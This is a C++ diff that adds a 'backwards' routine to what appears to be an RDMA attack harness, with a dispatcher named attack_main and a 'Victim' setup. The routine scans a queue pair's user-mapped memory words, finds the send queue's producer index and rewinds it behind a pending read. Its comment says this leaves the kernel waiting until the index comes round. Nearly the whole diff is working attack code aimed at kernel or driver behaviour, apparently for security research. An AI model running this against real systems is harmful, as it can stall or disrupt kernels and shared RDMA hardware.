@@ -287,6 +287,75 @@ int mapping()
 	return faults;
 }
 
+// The words of the mappings, one behind the other.
+class Words {
+public:
+	explicit Words(const Maps &maps)
+	{
+		for (const Mapping &m : maps)
+			for (size_t at = 0; at + 4 <= m.len; at += 4)
+				all_.push_back(reinterpret_cast<volatile uint32_t *>(m.addr + at));
+	}
+
+	volatile uint32_t &operator[](size_t n) const { return *all_[n]; }
+	size_t size() const { return all_.size(); }
+	std::vector<uint32_t> image() const
+	{
+		std::vector<uint32_t> copy;
+		for (volatile uint32_t *word : all_)
+			copy.push_back(uint32_t{*word});
+		return copy;
+	}
+
+private:
+	std::vector<volatile uint32_t *> all_;
+};
+
+// The send queue's producer index moves backwards, behind a Read that is never answered, and all elements of the ring
+// are requests that send nothing: the kernel does not run on until the index comes round.
+int backwards()
+{
+	Victim v;
+	Link link(v);
+	Drain drain(link.peer->socket);
+	Connection &c = *link.connection;
+	ibv_mw *window = ibv_alloc_mw(v.pd(), IBV_MW_TYPE_2);
+	if (!window || (!link.works && !v.completion(Millis{20000})))
+		return 1;
+	auto invalidate = [&] {
+		ibv_send_wr wr{}, *bad;
+		wr.opcode = IBV_WR_LOCAL_INV;
+		wr.invalidate_rkey = window->rkey;
+		int ret = ibv_post_send(c.qp(), &wr, &bad);
+		ring_doorbell(c.qp(), false); // now, not when a timer says so
+		return ret;
+	};
+	const Words words(link.maps);
+	for (int i = 0; i < 1000; i++)
+		invalidate();
+	const auto good = words.image();
+	c.post_read(*v.rw, 0, 100, 1, 2);
+	auto before = words.image();
+	if (invalidate())
+		return 2;
+	auto after = words.image();
+	for (int i = 0; i < 3; i++)
+		invalidate();
+	unsigned moved = 0;
+	for (size_t n = 0; n < words.size(); n++)
+		if (after[n] == before[n] + 1) {
+			words[n] -= 2;
+			moved++;
+		} else {
+			words[n] = good[n];
+		}
+	ring_doorbell(c.qp(), false);
+	ibv_qp_attr attr{};
+	ibv_qp_init_attr init{};
+	int ret = ibv_query_qp(c.qp(), &attr, IBV_QP_STATE, &init);
+	return ret || attr.qp_state != IBV_QPS_RTS ? 3 : moved ? 0 : 4;
+}
+
 } // namespace
 
 int attack_main(const std::vector<std::string> &args)
@@ -294,6 +363,8 @@ int attack_main(const std::vector<std::string> &args)
 	const std::string &what = args.at(0);
 	if (what == "mapping")
 		return mapping();
+	if (what == "backwards")
+		return backwards();
 	uint32_t seed = static_cast<uint32_t>(std::stoul(args.at(1)));
 	Millis time{std::stoul(args.at(2))};
 	for (auto end = Clock::now() + time; Clock::now() < end; seed += 100) {
